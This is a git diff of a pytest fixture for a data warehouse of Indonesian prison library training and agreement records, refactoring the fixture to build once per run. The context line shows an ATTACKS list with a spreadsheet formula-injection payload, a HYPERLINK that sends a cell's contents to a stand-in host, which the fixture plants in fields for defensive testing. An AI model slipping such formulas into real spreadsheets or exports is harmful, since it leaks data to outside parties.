@@ -462,25 +462,31 @@ ATTACKS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+62 811 0000", 
 
 
 @pytest.fixture
-def injected(env):
-    """A warehouse whose training titles, organisers and agreement numbers look like formulas."""
+def injected(env, request):
+    """A warehouse whose training titles, organisers and agreement numbers look like formulas (built once per
+    run and copied for each test: conftest.built_once)."""
+    from tests.conftest import built_once
     from warehouse.ingest import load_paths
     from warehouse.load import load_records
 
-    files = fixtures.write_fixture_files(env / "files")
-    training = write_xlsx(env / "files" / "pelatihan-jahat.xlsx", {"Pelatihan": [
-        ["Fasilitas", "Judul Kegiatan", "Tanggal Mulai", "Peserta L", "Peserta P", "Penyelenggara", "Tempat"],
-        ["Rutan Kelas IIB Rantau", ATTACKS[0], D(2024, 8, 22), 5, 1, ATTACKS[1], ATTACKS[3]],
-        ["Lapas Kelas IIA Banjarmasin", ATTACKS[2], D(2024, 8, 23), 3, 0, "Dispersip Kalsel", "Aula"],
-    ]})
-    assert load_paths([str(f) for f in [*files, training]], user="sari", out=lambda line: None, isolate=False) == 0
-    valid_from = D(2024, 1, 2)
-    record = pd.DataFrame([{
-        "facility_code": "rutan-rantau", "month": valid_from, "agreement_key": f"{valid_from}|{ATTACKS[0]}",
-        "number_dispersip": ATTACKS[0], "number_facility": ATTACKS[3], "signed_on": valid_from,
-        "valid_from": valid_from, "valid_until": D(2026, 12, 31), "scope": "pusling", "document_sha256": None,
-        "document_name": None, "notes": ATTACKS[2]}])
-    load_records("agreements", record, name="PKS (uji)", loaded_by="admin")
+    def build():
+        files = fixtures.write_fixture_files(env / "files")
+        training = write_xlsx(env / "files" / "pelatihan-jahat.xlsx", {"Pelatihan": [
+            ["Fasilitas", "Judul Kegiatan", "Tanggal Mulai", "Peserta L", "Peserta P", "Penyelenggara", "Tempat"],
+            ["Rutan Kelas IIB Rantau", ATTACKS[0], D(2024, 8, 22), 5, 1, ATTACKS[1], ATTACKS[3]],
+            ["Lapas Kelas IIA Banjarmasin", ATTACKS[2], D(2024, 8, 23), 3, 0, "Dispersip Kalsel", "Aula"],
+        ]})
+        assert load_paths([str(f) for f in [*files, training]], user="sari", out=lambda line: None,
+                          isolate=False) == 0
+        valid_from = D(2024, 1, 2)
+        record = pd.DataFrame([{
+            "facility_code": "rutan-rantau", "month": valid_from, "agreement_key": f"{valid_from}|{ATTACKS[0]}",
+            "number_dispersip": ATTACKS[0], "number_facility": ATTACKS[3], "signed_on": valid_from,
+            "valid_from": valid_from, "valid_until": D(2026, 12, 31), "scope": "pusling", "document_sha256": None,
+            "document_name": None, "notes": ATTACKS[2]}])
+        load_records("agreements", record, name="PKS (uji)", loaded_by="admin")
+
+    built_once(request, "formula-text", build)
     return env
 
 
